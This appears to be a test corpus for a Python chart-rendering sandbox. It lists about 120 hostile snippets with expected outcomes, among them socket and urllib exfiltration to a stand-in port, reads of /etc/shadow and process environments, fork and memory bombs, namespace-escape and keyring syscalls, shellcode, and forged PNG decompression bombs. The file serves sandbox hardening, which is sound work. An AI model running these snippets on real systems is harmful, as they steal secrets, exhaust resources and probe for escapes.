"""A corpus of hostile chart code, each with what the sandbox must make of it.

Every case is code a model could write into a ``code`` tag. ``expect`` is ``"fail"`` (the
image fails and the error matches ``reason``), ``"ok"`` (harmless: the chart renders and the
attack has no effect) or ``"any"`` (either, as long as it is contained). Placeholders filled in by the test:

``@PORT@``        a TCP port on 127.0.0.1 where the test listens (it must see no connection)
``@FORGE@``       helpers to forge result frames and PNGs (``send``, ``png``, ``chunk``)
``@SECRET_FILE@`` a file outside the sandbox holding a secret
``@HOST_DIR@``    a directory outside the sandbox where nothing may appear
``@REPO@``        the repository checkout

Whatever the outcome, the test also checks that the parent's API keys never appear in the
error or the info, that the loopback server saw nothing, that nothing was written outside, that
an error message stays short, and that the pool still renders a good chart afterwards, with no
worker replaced for want of a clean start.

Cases of one job against the next (a leak from one chart to a later one) are in
``cross_cases.py``.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    code: str
    expect: str  # "fail", "ok" or "any" (contained either way)
    reason: str = ""  # regex the error must match (for "fail")
    slow: bool = False  # runs into the time limit
    #: only safe where jobs have their own uid or PID namespace (never run it otherwise)
    host_risk: bool = False
    shows: str = ""  # regex the printed output must match (for "ok")
    machine: str = ""  # only on this platform.machine()


FORGE = """import os, json, struct, zlib
def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
def png(width, height, raw, extra=b''):
    head = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 8, 0, 0, 0, 0))
    return head + extra + chunk(b'IDAT', zlib.compress(raw, 1)) + chunk(b'IEND', b'')
def send(header, payload=b'', exit=True):
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    os.write(3, struct.pack('>II', len(data), len(payload)) + data + payload)
    if exit:
        os._exit(0)
RESULT = {'type': 'result', 'ok': True, 'figures': 1}
"""
LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\ndef denied(r):\n    if r == -1:\n        raise PermissionError(os.strerror(ctypes.get_errno()))\n"

# fmt: off
CASES: tuple[Case, ...] = (
    # --- network ----------------------------------------------------------------------------
    Case("socket to the internet", "import socket\ns = socket.create_connection(('1.1.1.1', 80), timeout=2)\nplt.plot([1])",
         "fail", r"OSError|unreachable|timed out"),
    Case("socket to the host's loopback", "import socket\ns = socket.create_connection(('127.0.0.1', @PORT@), timeout=2)\nplt.plot([1])",
         "fail", r"ConnectionRefusedError|OSError|unreachable"),
    Case("resolve a name", "import socket\nsocket.gethostbyname('example.com')\nplt.plot([1])",
         "fail", r"gaierror|resolution|Name or service"),
    Case("urllib fetch", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/steal', timeout=2)\nplt.plot([1])",
         "fail", r"URLError|refused|unreachable"),
    Case("udp exfiltration", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'leak', ('127.0.0.1', @PORT@))\nplt.plot([1])",
         "any", r"Network is unreachable"),  # the job's own network namespace has no loopback up
    # --- secrets and files --------------------------------------------------------------------
    Case("print the environment", "import os\nprint(dict(os.environ))\nplt.title(str(len(os.environ)))\nplt.plot([1])",
         "ok"),
    Case("read every process's environment", "import os\nfor p in os.listdir('/proc'):\n    try:\n        print(open(f'/proc/{p}/environ', 'rb').read())\n    except OSError:\n        pass\nplt.plot([1])",
         "ok"),
    Case("search the interpreter's memory for the parent's keys",
         "import gc, os, sys\nneedle = '-'.join(['llmi', 'test', 'secret'])\nfound = [k for k, v in os.environ.items() if needle in v]\n"
         "for obj in gc.get_objects() + [m.__dict__ for m in list(sys.modules.values()) if hasattr(m, '__dict__')]:\n"
         "    items = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()\n"
         "    found += [v[:8] for v in list(items) if isinstance(v, str) and needle in v and v is not needle]\n"
         "print('found' if found else 'clean')\nplt.plot([1])",
         "ok", shows=r"^clean$"),
    Case("raise with the keys", "import os\nraise RuntimeError(os.environ.get('SERP_API_KEY', 'none') + os.environ.get('OPENAI_API_KEY', 'none'))",
         "fail", r"RuntimeError: nonenone"),
    Case("read a file outside", "print(open('@SECRET_FILE@').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("read /etc/shadow", "print(open('/etc/shadow').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("list /home", "import os\nprint(os.listdir('/home'))\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("read root's files", "print(open('/root/.bashrc').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("read the repository", "print(open('@REPO@/pyproject.toml').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError"),
    Case("write outside /tmp", "open('@HOST_DIR@/pwned', 'w').write('x')\nplt.plot([1])",
         "fail", r"FileNotFoundError|PermissionError|Read-only"),
    Case("write into the interpreter", "import numpy, os\nopen(os.path.join(os.path.dirname(numpy.__file__), 'pwned.py'), 'w').write('x')\nplt.plot([1])",
         "fail", r"PermissionError|Read-only"),
    # --- processes ------------------------------------------------------------------------------
    Case("fork bomb", "import os\nwhile True:\n    os.fork()",
         "fail", r"BlockingIOError|Resource temporarily unavailable|time limit|killed", host_risk=True),
    Case("subprocess", "import subprocess\nprint(subprocess.run(['cat', '/etc/shadow'], capture_output=True).returncode)\nplt.plot([1])",
         "ok"),
    Case("os.system network", "import os\nos.system('python3 -c \"import urllib.request as u; u.urlopen(\\'http://127.0.0.1:@PORT@/\\')\"')\nplt.plot([1])",
         "ok"),
    Case("signal the parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nplt.plot([1])",
         "fail", r"PermissionError|killed|died"),
    Case("signal init", "import os, signal\nos.kill(1, signal.SIGKILL)\nplt.plot([1])",
         "any", r"PermissionError|killed|died"),  # as the worker's own uid (rootless) it is ignored
    Case("kill everything", "import os, signal\nos.kill(-1, signal.SIGKILL)\nplt.plot([1])",
         "any", r"died|killed", host_risk=True),  # reaches only the job's own uid (rootless: its worker, replaced)
    Case("kill own group", "import os, signal\nos.killpg(0, signal.SIGTERM)\nplt.plot([1])",
         "fail", r"SIGTERM|killed"),
    Case("leave a daemon behind", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)\n    os._exit(0)\nplt.plot([1])",
         "ok"),
    Case("become root", "import os\nos.setuid(0)\nplt.plot([1])",
         "fail", r"PermissionError|Invalid argument"),  # rootless: uid 0 is not even mapped
    Case("ctypes segfault", "import ctypes\nctypes.string_at(0)",
         "fail", r"SIGSEGV|segmentation"),
    Case("thread bomb", "import threading, time\nfor _ in range(100000):\n    threading.Thread(target=time.sleep, args=(60,)).start()",
         "fail", r"RuntimeError|can't start new thread|Resource|memory"),
    Case("threads left running", "import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()\nplt.plot([1])",
         "ok"),
    # --- resources --------------------------------------------------------------------------------
    Case("memory bomb", "x = bytearray(64 << 30)",
         "fail", r"out of memory"),
    Case("memory creep", "chunks = []\nwhile True:\n    chunks.append(bytearray(50 << 20))",
         "fail", r"out of memory"),
    Case("numpy memory bomb", "a = np.ones((200000, 200000))",
         "fail", r"out of memory"),
    Case("endless loop", "while True:\n    pass",
         "fail", r"time limit|CPU", slow=True),
    Case("sleep forever", "import time\ntime.sleep(10**6)",
         "fail", r"time limit", slow=True),
    Case("ignore SIGTERM and spin", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
         "fail", r"time limit|CPU", slow=True),
    Case("endless output", "while True:\n    print('spam' * 100)",
         "fail", r"printed more than"),
    Case("endless binary output", "import sys\nwhile True:\n    sys.stdout.buffer.write(b'\\x89PNG\\r\\n\\x1a\\n' * 1000)",
         "fail", r"printed more than"),
    Case("exhaust file descriptors", "fs = [open('/dev/null') for _ in range(100000)]",
         "fail", r"OSError|Too many open files"),
    Case("huge file", "with open('big.bin', 'wb') as f:\n    f.write(b'x' * (200 << 20))",
         "fail", r"File too large|OSError|No space|SIGXFSZ|out of memory"),
    Case("fill the disk", "import os\nos.makedirs('/tmp/fill', exist_ok=True)\nfor i in range(100):\n    with open(f'/tmp/fill/{i}', 'wb') as f:\n        f.write(b'x' * (32 << 20))",
         "fail", r"No space|OSError|File too large"),
    Case("recursion bomb", "def f():\n    return f()\nf()",
         "fail", r"RecursionError"),
    Case("giant figure", "plt.figure(figsize=(2000, 2000))\nplt.plot([1, 2])",
         "fail", r"too large"),
    # --- the interpreter and the protocol ---------------------------------------------------
    Case("sys.exit", "import sys\nsys.exit(3)",
         "fail", r"sys\.exit\(3\)"),
    Case("os._exit", "import os\nos._exit(0)",
         "fail", r"exited"),
    Case("delete matplotlib", "import sys\nfor name in [m for m in sys.modules if m.startswith('matplotlib')]:\n    del sys.modules[name]\nplt.plot([1, 2])",
         "any", r"the code raised \w+Error|time limit", slow=True),  # re-imports: slow, may not mix
    Case("break the import system", "import builtins\nbuiltins.__import__ = None\nplt.plot([1, 2])",
         "any", r"TypeError"),
    Case("write on the protocol pipes", "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'\\xff' * 64)\n    except OSError:\n        pass\nplt.plot([1])",
         "fail", r"malformed|not a PNG|could not be read"),
    Case("forge a result", "import os, json, struct\nh = json.dumps({'ok': True, 'figures': 1}).encode()\nbody = b'\\x89PNG' + b'\\0' * 64\nos.write(3, struct.pack('>II', len(h), len(body)) + h + body)\nos._exit(0)",
         "fail", r"could not be read|not a PNG|malformed"),
    Case("poison the next job", "import matplotlib, numpy\nnumpy.pi = 3\nmatplotlib.rcParams['lines.linewidth'] = 80\nplt.plot = None\nopen('/tmp/planted.py', 'w').write('x')\nimport builtins\nbuiltins.print = None\nplt.figure().gca().bar([1], [1])",
         "ok"),
    # --- namespace tricks (issue 9) -------------------------------------------------------------
    Case("nested user namespace via unshare(2)", LIBC + "denied(libc.unshare(0x10000000))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),
    Case("nested user namespace via clone(2)", LIBC + "denied(libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("nested user namespace via unshare -r", "import subprocess\nsubprocess.run(['unshare', '-r', 'true'], check=True, capture_output=True)\nplt.plot([1])",
         "fail", r"CalledProcessError|FileNotFoundError"),
    Case("new mount and network namespaces", LIBC + "denied(libc.unshare(0x00020000 | 0x40000000))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),
    Case("clone3, whose flags a filter cannot see", LIBC + "if libc.syscall(435, 0, 0) == -1:\n    raise OSError(os.strerror(ctypes.get_errno()))\nplt.plot([1])",
         "fail", r"Function not implemented"),
    Case("join init's namespaces", "import os\nos.open('/proc/1/ns/user', os.O_RDONLY)\nplt.plot([1])",
         "fail", r"FileNotFoundError"),
    Case("32-bit system calls (int 0x80)", "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\nplt.plot([1])",
         "fail", r"SIGSYS", machine="x86_64"),
    Case("x32 system calls", LIBC + "denied(libc.syscall(0x40000000 | 39))\nplt.plot([1])",
         "fail", r"PermissionError", machine="x86_64"),
    # --- what the job may see of the host and the sandbox ------------------------------------
    Case("read bwrap's command line", "print(open('/proc/1/cmdline').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError"),
    Case("read the mount table", "print(open('/proc/self/mountinfo').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError"),
    Case("read the supervisor's environment", "print(open('/proc/2/environ').read())\nplt.plot([1])",
         "fail", r"FileNotFoundError"),
    Case("find a pipe or socket of the worker's", "import os, stat\nchannels = []\nfor fd in range(4, 1024):\n    try:\n        mode = os.fstat(fd).st_mode\n    except OSError:\n        continue\n    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):\n        channels.append(fd)\nprint(channels)\nplt.plot([1])",
         "ok", shows=r"^\[\]$"),  # 0-2 are /dev/null and the output pipe, 3 its own result pipe
    # --- keyrings and the kernel's wider surface ------------------------------------------------
    Case("a key in the user keyring", LIBC + "denied(libc.syscall(248, b'user', b'llmi-leak', b'secret', 6, -4))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("the persistent keyring", LIBC + "denied(libc.syscall(250, 22, -1, -2))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("a request_key upcall", LIBC + "denied(libc.syscall(249, b'user', b'llmi', b'callout', 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("io_uring", LIBC + "p = ctypes.create_string_buffer(120)\ndenied(libc.syscall(425, 8, p))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("bpf and perf events", LIBC + "denied(libc.syscall(321, 0, 0, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("userfaultfd", LIBC + "denied(libc.syscall(323, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("ptrace the zygote", LIBC + "denied(libc.ptrace(16, 3, 0, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),
    # --- limits and permission tricks ---------------------------------------------------------
    Case("an unlimited stack", "import resource\nresource.setrlimit(resource.RLIMIT_STACK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\nplt.plot([1])",
         "fail", r"ValueError|not allowed"),
    Case("the stack limit is finite", "import resource\nsoft, hard = resource.getrlimit(resource.RLIMIT_STACK)\nprint('finite' if hard != resource.RLIM_INFINITY and soft == hard else 'unlimited')\nplt.plot([1])",
         "ok", shows=r"^finite$"),
    Case("pin 150,000 inodes", "import os\nos.makedirs('/tmp/pin')\ntry:\n    for i in range(150000):\n        open(f'/tmp/pin/{i}', 'w').close()\nfinally:\n    os.chmod('/tmp/pin', 0)",
         "fail", r"No space left on device"),
    Case("lock the working directory and /tmp", "import os\nos.chmod('.', 0)\nos.chmod('/tmp', 0)\nplt.plot([1])",
         "ok"),
    Case("make /tmp immutable", "import fcntl, os, struct\nfd = os.open('/tmp', os.O_RDONLY)\nfcntl.ioctl(fd, 0x40086602, struct.pack('l', 0x10))\nplt.plot([1])",
         "fail", r"OSError|PermissionError"),
    Case("bind-mount over /tmp", LIBC + "denied(libc.mount(b'/usr', b'/tmp', None, 4096, None))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),
    Case("hard-link the worker's script", "import os\nos.link('/.llmi/worker.py', '/tmp/worker.py')\nplt.plot([1])",
         "fail", r"OSError|PermissionError|FileNotFoundError"),
    Case("rename /tmp away", "import os\nos.rename('/tmp', '/tmp-gone')\nplt.plot([1])",
         "fail", r"OSError|PermissionError"),
    # --- forged result frames (issue 9: trust nothing the job says) ----------------------------
    Case("forge a 12000x12000 chart", "@FORGE@send(RESULT, png(12000, 12000, b''))",
         "fail", r"12000x12000 pixels, over the limit"),
    Case("forge a decompression bomb", "@FORGE@send(RESULT, png(8000, 8000, bytes(8001 * 8000)))",
         "fail", r"8000x8000 pixels, over the limit"),
    Case("forge a small chart whose data inflates to 100 MB", "@FORGE@send(RESULT, png(10, 10, bytes(100 << 20)))",
         "fail", r"image data is [\d,]+ bytes, not the 110"),
    Case("send two result frames", "@FORGE@send(RESULT, png(2, 2, bytes(6)), exit=False)\nplt.plot([1])",
         "fail", r"more than one frame"),
    Case("forge an oversized frame", "import os, struct\nos.write(3, struct.pack('>II', 0xFFFFFFFF, 0xFFFFFFFF))\nos._exit(0)",
         "fail", r"oversized frame"),
    Case("forge a deeply nested header", "@FORGE@send(b'[' * 300000)",
         "fail", r"malformed result"),
    Case("forge a result with lying fields", "@FORGE@send({'type': 'result', 'ok': True, 'figures': 'lots', 'width': -1}, png(2, 2, bytes(6)))",
         "fail", r"no figure count"),
    Case("forge a failure with a 1 MB message", "@FORGE@send({'type': 'result', 'ok': False, 'kind': 'rm -rf', 'message': 'x' * (1 << 19)})",
         "fail", r"^x+$"),
    Case("forge the worker's verdict that it is unhealthy", "@FORGE@send({'type': 'result', 'ok': False, 'kind': 'unhealthy', 'unhealthy': 'yes', 'message': 'forged verdict'})",
         "fail", r"^forged verdict$"),  # the job's own failure: no worker replaced, no retry
    Case("forge a JPEG as the chart", "@FORGE@import io\nfrom PIL import Image\nbuf = io.BytesIO()\nImage.new('RGB', (8, 8)).save(buf, 'JPEG')\nsend(RESULT, buf.getvalue())",
         "fail", r"not a PNG"),
    Case("forge an animated chart", "@FORGE@send(RESULT, png(2, 2, bytes(6), extra=chunk(b'acTL', bytes(8))))",
         "fail", r"animated"),
    Case("forge a truncated chart", "@FORGE@send(RESULT, png(50, 50, bytes(2550))[:-30])",
         "fail", r"truncated|corrupt"),
    # --- second round: what got through, and more of what did not ---------------------------
    # charts that pass a size check but no decoder could read
    Case("forge a chart whose rows use an unknown filter", "@FORGE@send(RESULT, png(4, 4, b'\\x09' * 20))",
         "fail", r"corrupt \(a row filter PNG lacks\)"),
    Case("forge a chart with a 50 MB zTXt bomb", "@FORGE@send(RESULT, png(4, 4, bytes(20), extra=chunk(b'zTXt', b'k\\0\\0' + zlib.compress(bytes(50 << 20), 9))))",
         "fail", r"compressed metadata \(zTXt\)"),
    Case("forge a chart with a colour-profile bomb", "@FORGE@send(RESULT, png(4, 4, bytes(20), extra=chunk(b'iCCP', b'p\\0\\0' + zlib.compress(bytes(50 << 20), 9))))",
         "fail", r"compressed metadata \(iCCP\)"),
    Case("forge a chart with compressed iTXt", "@FORGE@send(RESULT, png(4, 4, bytes(20), extra=chunk(b'iTXt', b'k\\0\\1\\0\\0\\0' + zlib.compress(b'x' * 100))))",
         "fail", r"compressed metadata \(iTXt\)"),
    Case("forge an empty drawing", "@FORGE@send({'type': 'result', 'ok': False, 'kind': 'empty', 'message': 'forged: nothing drawn'})",
         "fail", r"^forged: nothing drawn$"),  # an EmptyFigure: the job's own failure
    Case("close the result pipe", "import os\nos.close(3)\nplt.plot([1])",
         "fail", r"exited \(status 0\) before the chart"),
    # the kernel's wider surface, continued
    Case("an execution domain (personality)", LIBC + "denied(libc.personality(0x0400000))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),  # READ_IMPLIES_EXEC
    Case("asking the execution domain is harmless", LIBC + "print(libc.personality(0xffffffff) & 0xff)\nplt.plot([1])",
         "ok", shows=r"^0$"),
    Case("modify_ldt", LIBC + "buf = ctypes.create_string_buffer(16)\ndenied(libc.syscall(154, 1, buf, 16))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("a file handle of /usr (name_to_handle_at)", LIBC + "h = ctypes.create_string_buffer(136)\nh[0:4] = (128).to_bytes(4, 'little')\nm = ctypes.c_int()\ndenied(libc.name_to_handle_at(-100, b'/usr', h, ctypes.byref(m), 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),
    Case("perf_event_open", LIBC + "attr = ctypes.create_string_buffer(128)\ndenied(libc.syscall(298, attr, 0, -1, -1, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("setns into init's namespaces through a pidfd", LIBC + "fd = libc.syscall(434, 1, 0)\ndenied(fd)\ndenied(libc.setns(fd, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("take a descriptor of init's (pidfd_getfd)", LIBC + "fd = libc.syscall(434, 1, 0)\ndenied(fd)\ndenied(libc.syscall(438, fd, 0, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    Case("a new time namespace", LIBC + "denied(libc.unshare(0x80))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),
    Case("a new cgroup namespace", LIBC + "denied(libc.unshare(0x02000000))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted"),
    Case("open_by_handle_at", LIBC + "h = ctypes.create_string_buffer(136)\ndenied(libc.syscall(304, -100, h, 0))\nplt.plot([1])",
         "fail", r"PermissionError: Operation not permitted", machine="x86_64"),
    # processes, signals and the terminal
    Case("signal every pid of the sandbox", "import os, signal\nhit = []\nfor pid in range(1, 200):\n    if pid != os.getpid():\n        try:\n            os.kill(pid, signal.SIGKILL)\n            hit.append(pid)\n        except OSError:\n            pass\nprint(hit)\nplt.plot([1])",
         "ok", shows=r"^\[\]$"),
    Case("a stopped child holding the pipes", "import os, signal\nif os.fork() == 0:\n    os.kill(os.getpid(), signal.SIGSTOP)\n    os._exit(0)\nplt.plot([1])",
         "ok"),
    Case("fifty zombies", "import os\nfor _ in range(50):\n    if os.fork() == 0:\n        os._exit(0)\nplt.plot([1])",
         "ok", host_risk=True),
    Case("a controlling terminal for TIOCSTI", "import os\nos.open('/dev/tty', os.O_RDWR)\nplt.plot([1])",
         "fail", r"No such device or address|FileNotFoundError"),
    Case("a new pseudo-terminal", "import os, pty\nm, s = pty.openpty()\nos.write(m, b'echo pwned\\n')\nplt.plot([1])",
         "ok"),
    Case("write into /dev", "open('/dev/llmi-leak', 'w').write('x')\nplt.plot([1])",
         "fail", r"PermissionError|Read-only"),
    Case("a higher priority", "import os\nos.nice(-5)\nplt.plot([1])",
         "fail", r"PermissionError"),
    Case("raise the process limit", "import resource\nresource.setrlimit(resource.RLIMIT_NPROC, (10 ** 6, 10 ** 6))\nplt.plot([1])",
         "fail", r"ValueError|not allowed"),
    Case("lock all memory", LIBC + "denied(libc.mlockall(3))\nplt.plot([1])",
         "fail", r"PermissionError: (Cannot allocate memory|Operation not permitted|Resource temporarily unavailable)"),
    # the network, within the sandbox
    Case("connect to the sandbox's own loopback", "import socket\ns = socket.create_server(('127.0.0.1', 0))\nsocket.create_connection(s.getsockname(), timeout=2)\nplt.plot([1])",
         "fail", r"Network is unreachable|OSError"),
    # words that would drive the terminal or the page they are shown on
    Case("terminal escapes in an exception", "raise ValueError('\\x1bc\\x1b]0;owned\\x07\\x1b]52;c;cHduZWQ=\\x07\\rall good')",
         "fail", r"ValueError: \\x1bc\\x1b\]0;owned\\x07\\x1b\]52;c;cHduZWQ=\\x07\\x0dall good"),
    Case("terminal escapes in the output", "print('\\x1b[2J\\x1b[8mhidden\\r\\x9b31m')\nplt.plot([1])",
         "ok", shows=r"^\\x1b\[2J\\x1b\[8mhidden\\x0d\\x9b31m$"),
    Case("a right-to-left override in the error", "raise ValueError('fine \\u202egnp.tahc')",
         "fail", r"fine \\u202egnp\.tahc"),
    # past the time limit where only SIGKILL reaches
    Case("spin in C with every signal blocked", "import re, signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))\nre.match('(a*)*b', 'a' * 64)",
         "fail", r"time limit|CPU", slow=True),
    Case("sleep in C with every signal blocked", "import ctypes, signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))\nctypes.CDLL(None).sleep(10 ** 6)",
         "fail", r"time limit", slow=True),
    Case("stop itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nplt.plot([1])",
         "fail", r"time limit", slow=True),
    # the compiler and the parsers
    Case("200,000 unary minuses", "-" * 200000 + "1\nplt.plot([1])",
         "fail", r"out of memory|RecursionError|not valid Python"),
    Case("a sum of 100,001 terms", "x = " + "1+" * 100000 + "1\nplt.plot([1])",
         "fail", r"RecursionError|out of memory|not valid Python"),
    Case("a NUL byte in the code", "plt.plot([1])\x00",
         "fail", r"not valid Python: source code string cannot contain null bytes|ValueError"),
    Case("a 10 GB constant", "x = 'a' * 10**10\nplt.plot([1])",
         "fail", r"out of memory"),
    Case("mathtext nested 5,000 deep", "plt.title('$' + '{' * 5000 + 'x' + '}' * 5000 + '$')\nplt.plot([1])",
         "fail", r"RecursionError|ParseException|ValueError"),
    Case("an integer of 100,000 digits", "x = int('9' * 100000)\nplt.plot([1])",
         "fail", r"ValueError: Exceeds the limit"),
    # figures that hide their size
    Case("text far outside the axes (a huge tight bounding box)", "fig, ax = plt.subplots()\nax.plot([1, 2])\nax.text(1e6, 1e6, 'far', transform=ax.transAxes)",
         "fail", r"too large|out of memory"),
    Case("an infinite dpi", "f = plt.figure()\nf.dpi = float('inf')\nf.gca().plot([1])",
         "fail", r"OverflowError|too large"),
    Case("a figure size of NaN", "f = plt.figure()\nf.set_size_inches(float('nan'), 4)\nf.gca().plot([1])",
         "fail", r"ValueError|too large"),
)
# fmt: on
